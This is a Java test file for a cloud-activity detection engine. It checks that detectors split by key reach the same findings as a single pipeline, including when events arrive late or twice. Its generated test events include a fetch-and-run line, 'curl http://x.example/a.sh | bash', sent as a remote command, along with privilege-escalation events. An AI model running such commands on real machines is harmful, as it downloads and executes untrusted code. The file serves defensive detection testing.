package dev.cadet.detectors;

import dev.cadet.detectors.scenarios.Scenario;
import dev.cadet.detectors.scenarios.ScenarioLibrary;
import dev.cadet.detectors.testkit.E;
import dev.cadet.detectors.testkit.KeyedHost;
import dev.cadet.model.CloudEvent;
import dev.cadet.model.EventKind;
import dev.cadet.model.Outcome;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The detectors split by key find what one pipeline over all events finds: same findings, same
 * incidents and decisions, whatever the snapshots and restores in between.
 */
class KeyedDetectionTest {

    static List<Scenario> scenarios() {
        return ScenarioLibrary.all();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("scenarios")
    void everyScenarioGetsTheSameFindingsAndDecisions(Scenario s) {
        DetectionConfig config = withStoredBaseline(s.config(), s.events());
        DetectionResult single = runPipeline(config, s.events());

        KeyedDetection.Conclusion keyed = new KeyedHost(KeyedDetection.create(config), 0).run(s.events());
        KeyedDetection.Conclusion restarted = new KeyedHost(KeyedDetection.create(config), 3).run(s.events());

        assertThat(single.findings()).isNotEmpty();
        assertThat(keyed.findings()).isEqualTo(single.findings());
        assertThat(keyed.incidents()).isEqualTo(single.incidents());
        assertThat(restarted.findings()).isEqualTo(single.findings());
        assertThat(restarted.incidents()).isEqualTo(single.incidents());
    }

    @Property(tries = 60)
    void randomActivityGetsTheSameResult(@ForAll("activity") List<Spec> specs) {
        List<CloudEvent> events = build(specs);
        DetectionConfig config = DetectionConfig.builder().learningPeriod(Duration.ZERO)
                .failedThenSuccessThreshold(2).deniedBurstThreshold(2).spikeFloor(3).fanOutThreshold(3).build();
        DetectionResult single = runPipeline(config, events);
        KeyedDetection.Conclusion keyed = new KeyedHost(KeyedDetection.create(config), 17).run(events);
        assertThat(keyed.findings()).isEqualTo(single.findings());
        assertThat(keyed.incidents()).isEqualTo(single.incidents());
    }

    @Test
    void aBaselineLearnedFromTheScanIsRefused() {
        assertThatThrownBy(() -> KeyedDetection.create(DetectionConfig.defaults()))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("stored baseline");
    }

    @Test
    void aPartitionWithNothingToKeepIsEmptyOnceTheWatermarkPasses() {
        KeyedDetection keyed = KeyedDetection.create(DetectionConfig.builder().learningPeriod(Duration.ZERO).build());
        CloudEvent read = E.other(E.user("alice")).id("r-1").at(E.DAY).build();
        assertThat(keyed.keysOf(read)).containsExactly("principal:" + E.user("alice"));
        DetectorPartition p = keyed.newPartition(keyed.keysOf(read).get(0));
        assertThat(p.push(read, Long.MIN_VALUE)).isTrue();
        assertThat(p.push(read, Long.MIN_VALUE)).as("a repeat").isFalse();
        assertThat(p.nextWakeUp()).isEqualTo(E.DAY + 1);
        List<Object> out = new ArrayList<>();
        p.advance(E.DAY + 1, out::add);
        p.advance(E.DAY + 2 * keyed.allowedLatenessMillis() + 1, out::add);
        assertThat(out).isEmpty();
        assertThat(p.isEmpty()).isTrue();
        assertThat(p.nextWakeUp()).isEqualTo(Long.MAX_VALUE);
        assertThat(p.push(E.other(E.user("alice")).id("r-0").at(E.DAY - 1).build(), E.DAY)).as("late").isFalse();
        assertThat(p.late()).isEqualTo(1);
        assertThat(p.duplicates()).isEqualTo(1);
    }

    private static DetectionResult runPipeline(DetectionConfig config, List<CloudEvent> events) {
        Pipeline pipeline = Pipeline.create(config);
        events.forEach(pipeline::push);
        return pipeline.finish();
    }

    /** The scenario's configuration with the baseline its learning period would learn, stored. */
    private static DetectionConfig withStoredBaseline(DetectionConfig config, List<CloudEvent> events) {
        if (config.baseline() != null || config.learningPeriod().isZero()) {
            return config;
        }
        long first = events.stream().mapToLong(CloudEvent::time).min().orElseThrow();
        long until = first + config.learningPeriod().toMillis();
        Baseline.Learner learner = Baseline.learner();
        events.stream().filter(e -> e.time() < until).sorted(Comparator.comparingLong(CloudEvent::time))
                .forEach(learner::add);
        return config.toBuilder().baseline(learner.build(), "learned in the test").build();
    }

    record Spec(int kind, int principal, int minute, int second, int source) {
    }

    @Provide
    Arbitrary<List<Spec>> activity() {
        Arbitrary<Spec> spec = Combinators.combine(
                Arbitraries.integers().between(0, 13),
                Arbitraries.integers().between(0, PRINCIPALS.length - 1),
                Arbitraries.integers().between(0, 200),
                Arbitraries.integers().between(0, 59),
                Arbitraries.integers().between(0, SOURCES.length - 1)).as(Spec::new);
        return spec.list().ofMinSize(1).ofMaxSize(300);
    }

    private static final String[] PRINCIPALS = {E.user("alice"), E.user("bob"), E.role("Patching", "i-0abc"),
            E.role("Admin", "mallory"), "unknown"};
    private static final String[] SOURCES = {"198.51.100.7", "203.0.113.66", "10.1.2.3", "2001:db8::1"};
    private static final String[] COUNTRIES = {"DE", "AU", "US", "BR"};

    /**
     * Events from specs, in spec order, so that some are late: every kind a detector wants, and a ninth of
     * them delivered twice.
     */
    static List<CloudEvent> build(List<Spec> specs) {
        List<CloudEvent> events = new ArrayList<>(specs.size());
        for (int i = 0; i < specs.size(); i++) {
            Spec s = specs.get(i);
            String p = PRINCIPALS[s.principal()];
            String other = PRINCIPALS[(s.principal() + 1) % PRINCIPALS.length];
            String machine = "i-" + (s.minute() % 4);
            E.Builder b = switch (s.kind()) {
                case 0, 1 -> E.command(p).targets(machine, "i-" + (s.second() % 3));
                case 2 -> E.session(p).targets(machine);
                case 3 -> E.denied(p).targets(machine);
                case 4 -> E.login(p).country(COUNTRIES[s.second() % COUNTRIES.length]);
                case 5 -> E.loginFailed(p);
                case 6 -> E.createKey(p, other, "AKIA" + (s.minute() % 3));
                case 7 -> E.attachPolicy(p, other, "arn:aws:iam::aws:policy/AdministratorAccess");
                case 8 -> E.event(EventKind.OTHER, "ec2:StopInstances", p).targets(machine);
                case 9 -> E.event(EventKind.OTHER, "ec2:StartInstances", p).targets(machine);
                case 10 -> E.command(p).document("AWS-RunPowerShellScript").lines("curl http://x.example/a.sh | bash")
                        .targets(machine).account(s.second() % 2 == 0 ? E.ACCOUNT : "444455556666");
                case 11 -> E.command(p).outcome(Outcome.FAILURE).error("InvalidInstanceId").targets(machine)
                        .correlation("op-" + (s.minute() % 5));
                case 12 -> E.command(p).key("AKIA" + (s.minute() % 3)).targets(machine);
                default -> E.other(p).country(COUNTRIES[s.second() % COUNTRIES.length]);
            };
            long time = E.DAY + s.minute() * E.MINUTE + s.second() * 1000L;
            b.id(String.format("k-%04d", i)).at(time).ip(SOURCES[s.source()]);
            events.add(b.build());
        }
        // Logs deliver some records twice: the same event again, a little later in the input.
        for (int i = 0; i < specs.size(); i += 9) {
            events.add(Math.min(events.size(), i + 1 + specs.get(i).second() % 20), events.get(i));
        }
        return events;
    }
}
